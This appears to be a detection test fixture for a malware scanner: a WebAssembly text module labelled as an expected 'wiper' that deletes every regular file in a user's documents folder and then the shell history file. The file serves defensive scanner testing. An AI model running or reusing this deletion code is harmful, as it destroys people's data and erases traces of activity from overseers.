;; RUN: spoor run % -q --fail-on never
;; WHAT: Goes through the documents and deletes each, and then the history of the shell; keeps no copy.
;; EXPECT: verdict=SUSPICIOUS|MALICIOUS family=wiper rule=impact/wiper file=/home/user/documents/report.txt:deleted
(module
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_readdir" (func $fd_readdir (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
  (memory (export "memory") 2)
  (data (i32.const 512) "home/user/documents/")
  (data (i32.const 640) "home/user/.bash_history")
  (func $walk (param $dir i32) (local $p i32) (local $end i32) (local $name i32)
    (drop (call $fd_readdir (local.get $dir) (i32.const 4096) (i32.const 8192) (i64.const 0) (i32.const 16)))
    (local.set $p (i32.const 4096))
    (local.set $end (i32.add (i32.const 4096) (i32.load (i32.const 16))))
    (memory.copy (i32.const 1024) (i32.const 512) (i32.const 20))
    (block $done
      (loop $entry
        (br_if $done (i32.gt_u (i32.add (local.get $p) (i32.const 24)) (local.get $end)))
        (local.set $name (i32.load offset=16 (local.get $p)))
        ;; Regular files only.
        (if (i32.eq (i32.load8_u offset=20 (local.get $p)) (i32.const 4))
          (then
            (memory.copy (i32.const 1044) (i32.add (local.get $p) (i32.const 24)) (local.get $name))
            (drop (call $unlink (i32.const 3) (i32.const 1024) (i32.add (local.get $name) (i32.const 20))))))
        (local.set $p (i32.add (local.get $p) (i32.add (local.get $name) (i32.const 24))))
        (br $entry))))
  (func (export "_start")
    (drop (call $path_open (i32.const 3) (i32.const 0) (i32.const 512) (i32.const 19) (i32.const 2)
      (i64.const 0x204002) (i64.const 0) (i32.const 0) (i32.const 12)))
    (call $walk (i32.load (i32.const 12)))
    (drop (call $unlink (i32.const 3) (i32.const 640) (i32.const 23)))))
